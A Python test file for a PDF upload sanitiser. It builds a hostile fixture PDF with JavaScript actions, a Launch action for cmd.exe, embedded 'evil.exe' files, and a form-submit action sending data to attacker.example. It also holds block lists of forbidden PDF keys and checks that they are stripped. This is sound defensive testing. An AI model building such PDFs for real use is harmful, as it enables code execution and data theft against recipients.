"""Active content is removed from PDFs; the pages stay."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, ObjectType, String

from rokhas.documents.validation import validate_upload

from .builders import make_pdf, pdf_bytes, upload

FORBIDDEN_KEYS = {"/JS", "/AA", "/EF", "/EmbeddedFiles", "/XFA", "/OpenAction", "/RichMediaContent"}
FORBIDDEN_NAMES = {"/JavaScript", "/Launch", "/EmbeddedFile", "/SubmitForm", "/ImportData", "/RichMedia",
                   "/FileAttachment"}


def findings(data: bytes) -> list[str]:
    """Every forbidden key or name anywhere in the file's object graph (all objects, not
    only those reachable from the catalogue), plus a search of an uncompressed dump."""
    found = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        stack = [pdf.trailer, *pdf.objects]
        while stack:
            obj = stack.pop()
            code = getattr(obj, "_type_code", None)
            if code in (ObjectType.dictionary, ObjectType.stream):
                for key in obj.keys():
                    if key in FORBIDDEN_KEYS:
                        found.append(key)
                    value = obj.get(key)
                    if not getattr(value, "is_indirect", False):
                        stack.append(value)
            elif code == ObjectType.array:
                stack.extend(v for v in obj if not getattr(v, "is_indirect", False))
            elif code == ObjectType.name_ and str(obj) in FORBIDDEN_NAMES:
                found.append(str(obj))
        dump = io.BytesIO()
        pdf.save(dump, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    for needle in (b"app.alert", b"cmd.exe", b"EVIL-PAYLOAD", b"/JavaScript", b"/Launch", b"/EmbeddedFile"):
        if needle in dump.getvalue():
            found.append(needle.decode())
    return found


def js(pdf, code="app.alert(1)"):
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code)))


def embedded_file(pdf, name="evil.exe"):
    stream = pdf.make_stream(b"MZ EVIL-PAYLOAD", Type=Name.EmbeddedFile)
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream)))


def annotation(pdf, subtype, **entries):
    return pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array([10, 10, 90, 40]), **entries))


def hostile_pdf(pages: int = 3) -> bytes:
    pdf = pikepdf.open(io.BytesIO(make_pdf(pages=pages)))
    root = pdf.Root
    root.OpenAction = js(pdf)
    root.AA = Dictionary(WC=js(pdf, "app.alert('closing')"))
    root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), js(pdf)])),
        EmbeddedFiles=Dictionary(Names=Array([String("evil.exe"), embedded_file(pdf)])),
        Dests=Dictionary(Names=Array([String("start"), Array([pdf.pages[0].obj, Name.Fit])])),
    )
    launch = annotation(pdf, Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))
    uri = annotation(pdf, Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.rokhas.ma/")))
    attachment = annotation(pdf, Name.FileAttachment, FS=embedded_file(pdf, "second.exe"))
    rich_media = annotation(pdf, Name.RichMedia, RichMediaContent=Dictionary())
    chained = annotation(
        pdf, Name.Link, A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), Next=Array([js(pdf)]))
    )
    field = annotation(
        pdf,
        Name.Widget,
        FT=Name.Btn,
        T=String("send"),
        A=Dictionary(S=Name.SubmitForm, F=String("https://attacker.example/collect")),
        AA=Dictionary(K=js(pdf), F=js(pdf)),
    )
    field.P = pdf.pages[0].obj
    pdf.pages[0].obj.Annots = pdf.make_indirect(Array([launch, uri, attachment, rich_media, chained, field]))
    pdf.pages[1].obj.AA = Dictionary(O=js(pdf), C=Dictionary(S=Name.ImportData, F=String("data.fdf")))
    root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xdp:xdp>EVIL-PAYLOAD</xdp:xdp>"))
    outline_item = pdf.make_indirect(Dictionary(Title=String("Chapitre"), A=js(pdf)))
    root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=outline_item, Last=outline_item, Count=1))
    outline_item.Parent = root.Outlines
    return pdf_bytes(pdf)


def test_hostile_pdf_has_what_we_look_for():
    # The detector itself works: the input is full of it.
    assert {"/JS", "/AA", "/EF", "/OpenAction", "/XFA", "/Launch", "/EmbeddedFile"} <= set(findings(hostile_pdf()))


def test_active_content_is_removed():
    clean = validate_upload(upload("plans.pdf", hostile_pdf()))
    assert findings(clean.content) == []
    assert clean.sanitised is True
    assert {
        "JavaScript",
        "embedded files",
        "launch actions",
        "open action",
        "form submission actions",
        "data import actions",
        "multimedia content",
        "XFA forms",
    } <= set(clean.removed)
    assert len(clean.removed) == len(set(clean.removed))


def test_pages_and_harmless_parts_are_kept():
    clean = validate_upload(upload("plans.pdf", hostile_pdf(pages=3)))
    assert clean.pages == 3
    with pikepdf.open(io.BytesIO(clean.content)) as pdf:
        assert len(pdf.pages) == 3
        annots = pdf.pages[0].obj.Annots
        subtypes = sorted(str(a.Subtype) for a in annots)
        assert subtypes == ["/Link", "/Link", "/Widget"]  # URI link, GoTo link, the form field
        uris = [str(a.A.URI) for a in annots if "/A" in a and a.A.S == Name.URI]
        assert uris == ["https://www.rokhas.ma/"]
        assert "/Dests" in pdf.Root.Names  # named destinations are not active content
        assert str(pdf.Root.Outlines.First.Title) == "Chapitre"


def test_result_is_a_plain_valid_pdf_and_deterministic():
    data = hostile_pdf()
    first = validate_upload(upload("a.pdf", data))
    second = validate_upload(upload("b.pdf", data))
    assert first.content == second.content and first.sha256 == second.sha256
    assert first.size == len(first.content)
    with pikepdf.open(io.BytesIO(first.content)) as pdf:
        assert pdf.check_pdf_syntax() == []  # qpdf: no problems found


def test_clean_pdf_is_not_reported_as_sanitised():
    pdf = pikepdf.open(io.BytesIO(make_pdf(pages=2)))
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])  # a destination, not an action
    clean = validate_upload(upload("a.pdf", pdf_bytes(pdf)))
    assert (clean.sanitised, clean.removed) == (False, ())
    with pikepdf.open(io.BytesIO(clean.content)) as stored:
        assert "/OpenAction" in stored.Root


def test_older_revisions_are_not_kept():
    # An incremental update that deletes the JavaScript leaves it in the file's bytes;
    # writing the file anew drops the old revision.
    pdf = pikepdf.open(io.BytesIO(make_pdf()))
    pdf.Root.OpenAction = js(pdf)
    first = pdf_bytes(pdf)
    clean = validate_upload(upload("a.pdf", first + b"\n% trailing garbage EVIL-PAYLOAD\n"))
    assert b"EVIL-PAYLOAD" not in clean.content
    assert findings(clean.content) == []


def test_signed_pdf_without_active_content_is_kept_byte_for_byte():
    pdf = pikepdf.open(io.BytesIO(make_pdf()))
    signature = Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), ByteRange=Array([0, 1, 2, 3]),
                           Contents=String(b"\x00" * 16))
    field = annotation(pdf, Name.Widget, FT=Name.Sig, T=String("Signature1"), V=pdf.make_indirect(signature))
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
    data = pdf_bytes(pdf)
    clean = validate_upload(upload("signed.pdf", data))
    assert clean.content == data  # re-writing would break the signature
    assert clean.sanitised is False


def test_signed_pdf_with_active_content_is_still_cleaned():
    pdf = pikepdf.open(io.BytesIO(make_pdf()))
    signature = Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=String(b"\x00" * 16))
    field = annotation(pdf, Name.Widget, FT=Name.Sig, T=String("Signature1"), V=pdf.make_indirect(signature))
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
    pdf.Root.OpenAction = js(pdf)
    clean = validate_upload(upload("signed.pdf", pdf_bytes(pdf)))
    assert "JavaScript" in clean.removed
    assert findings(clean.content) == []
